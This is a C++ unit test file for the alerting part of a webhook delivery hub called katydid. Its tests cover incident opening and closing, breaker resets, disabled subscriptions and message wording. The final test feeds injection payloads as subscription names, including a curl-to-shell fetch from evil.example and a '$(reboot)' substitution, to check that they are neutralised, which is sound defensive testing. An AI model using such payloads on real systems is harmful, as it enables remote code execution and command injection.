#include "hub/alerts/incidents.hpp"

#include "hub/alerts/message.hpp"
#include "tests/alerts/happenings.hpp"

#include <boost/json.hpp>
#include <boost/test/unit_test.hpp>

using namespace katydid;
using namespace katydid::alerts;
using namespace katydid::alerts::test;
using namespace std::chrono_literals;

namespace {

/// An alert about one subscription.
struct Alert {
    std::optional<Message> add(const Happening& what)
    {
        auto step = advance(types, std::move(open), what);
        open = std::move(step.incident);
        return step.message;
    }

    std::vector<std::string> types;
    std::optional<Incident> open{};
};

}  // namespace

BOOST_AUTO_TEST_SUITE(alerts_incidents)

// Goal: one message when it begins, one when it is over, none between.
BOOST_AUTO_TEST_CASE(an_incident_is_told_twice)
{
    Alert alert{{degraded, dead}};
    const auto begun = alert.add(happening(degraded));
    BOOST_TEST_REQUIRE(begun.has_value());
    BOOST_TEST(!begun->is_over);
    for (int i = 0; i < 5; ++i) BOOST_TEST(!alert.add(happening(dead)).has_value());
    BOOST_TEST_REQUIRE(alert.open.has_value());
    BOOST_TEST(!is_over(*alert.open, true, Timestamp{1h}));
    const auto over = alert.add(happening(recovered));
    BOOST_TEST_REQUIRE(over.has_value());
    BOOST_TEST(over->is_over);
    BOOST_TEST(over->count == 6U);
    BOOST_TEST(!alert.open.has_value());
    BOOST_TEST(!alert.add(happening(recovered)).has_value());
}

// Goal: deaths alone are over once nothing has died for a while, whatever the breaker does.
BOOST_AUTO_TEST_CASE(deaths_end_when_it_is_quiet)
{
    Alert alert{{dead}};
    BOOST_TEST(alert.add(happening(dead, Timestamp{0min})).has_value());
    BOOST_TEST(!alert.add(happening(dead, Timestamp{10min})).has_value());
    BOOST_TEST_REQUIRE(alert.open.has_value());
    BOOST_TEST(alert.open->count == 2U);
    for (const bool is_held_back : {true, false}) {
        BOOST_TEST(!is_over(*alert.open, is_held_back, Timestamp{24min}));
        BOOST_TEST(is_over(*alert.open, is_held_back, Timestamp{25min}));
    }
}

// Regression: a breaker that was reset, as the subscription got another URL or was deleted, tells
// of no recovery: the incident stayed open, and the next one was not told.
BOOST_AUTO_TEST_CASE(degraded_ends_when_the_breaker_is_gone)
{
    Alert alert{{degraded}};
    BOOST_TEST(alert.add(happening(degraded)).has_value());
    BOOST_TEST_REQUIRE(alert.open.has_value());
    BOOST_TEST(!is_over(*alert.open, true, Timestamp{24h}));
    BOOST_TEST(!is_over(*alert.open, false, Timestamp{14min}));
    BOOST_TEST(is_over(*alert.open, false, Timestamp{15min}));
    const auto said = describe({true, alert.open->last, 1}, 1, "");
    BOOST_TEST((said.at("title") == "\"billing\" is degraded no longer"));
}

// Goal: that a subscription is disabled is always told, also within an incident.
BOOST_AUTO_TEST_CASE(the_end_of_a_subscription_is_told)
{
    Alert alert{{degraded, disabled}};
    BOOST_TEST(alert.add(happening(degraded)).has_value());
    const auto gone = alert.add(happening(disabled));
    BOOST_TEST_REQUIRE(gone.has_value());
    BOOST_TEST(!gone->is_over);
    BOOST_TEST(gone->count == 2U);
    BOOST_TEST(alert.add(happening(degraded)).has_value());  // someone resumed it
    Alert other{{dead}};
    BOOST_TEST(other.add(happening(disabled)).has_value());
}

// Goal: an alert is for its own types.
BOOST_AUTO_TEST_CASE(other_types_begin_nothing)
{
    Alert alert{{degraded}};
    BOOST_TEST(!alert.add(happening(dead)).has_value());
    BOOST_TEST(!alert.open.has_value());
    BOOST_TEST(alert.add(happening(degraded)).has_value());
    BOOST_TEST(!alert.add(happening(dead)).has_value());
}

// Goal: an incident is read as it was written; anything else is none.
BOOST_AUTO_TEST_CASE(incidents_are_kept_as_they_are)
{
    const Incident incident{happening(dead, Timestamp{25min}), 7, true};
    const auto read = read_incident(write(incident));
    BOOST_TEST_REQUIRE(read.has_value());
    BOOST_TEST(read->last.type == dead);
    BOOST_TEST(read->last.subscription == "sub_1");
    BOOST_TEST(read->last.name == "billing");
    BOOST_TEST(read->last.reason == "the receiver answered 500");
    BOOST_TEST((read->last.at == Timestamp{25min}));
    BOOST_TEST(read->count == 7U);
    BOOST_TEST(read->is_degraded);
    for (const auto* text : {"", "{}", "[]", R"({"at":"now"})"})
        BOOST_TEST(!read_incident(text).has_value(), text);
}

// Goal: a message says what, why, and where to replay.
BOOST_AUTO_TEST_CASE(a_message_in_words)
{
    const auto said = describe({false, happening(dead), 1}, 1, "https://hub.example/console");
    BOOST_TEST((said.at("title") == "a delivery of \"billing\" is dead"));
    BOOST_TEST((said.at("link")
                == "https://hub.example/console/#/deliveries?state=dead&subscription=sub_1"));
    BOOST_TEST((said.at("state") == "open"));
    const std::string text{said.at("text").as_string()};
    BOOST_TEST(text.find("the receiver answered 500") == 0U);
}

// Goal: who hears that a subscription was disabled hears why, and how to enable it.
BOOST_AUTO_TEST_CASE(a_disabled_one_in_words)
{
    auto gone = happening(disabled);
    gone.reason = "the receiver answered 410: it wants nothing more";
    const auto said = describe({false, gone, 1}, 1, "");
    BOOST_TEST((said.at("title") == "\"billing\" is disabled"));
    const std::string text{said.at("text").as_string()};
    BOOST_TEST(text.find(gone.reason + "\nIt was disabled at once") == 0U);
    BOOST_TEST(text.find("katydid subscriptions resume billing") != std::string::npos);
}

// Goal: who may name a subscription writes no lines of their own into a message, and nothing that
// an operator would paste into a shell.
BOOST_AUTO_TEST_CASE(a_name_is_no_command)
{
    for (const std::string name :
         {"x\n\";curl evil.example|sh;\"", "$(reboot)", "a b", "--url=evil", "\u202Egnp"}) {
        auto gone = happening(disabled);
        gone.name = name;
        const auto said = describe({false, gone, 1}, 1, "");
        const std::string text{said.at("text").as_string()};
        BOOST_TEST(text.find("katydid subscriptions resume sub_1\"") != std::string::npos, name);
        const std::string title{said.at("title").as_string()};
        BOOST_TEST(title.find('\n') == std::string::npos, name);
        BOOST_TEST(title.find("\u202E") == std::string::npos, name);
    }
}

BOOST_AUTO_TEST_SUITE_END()
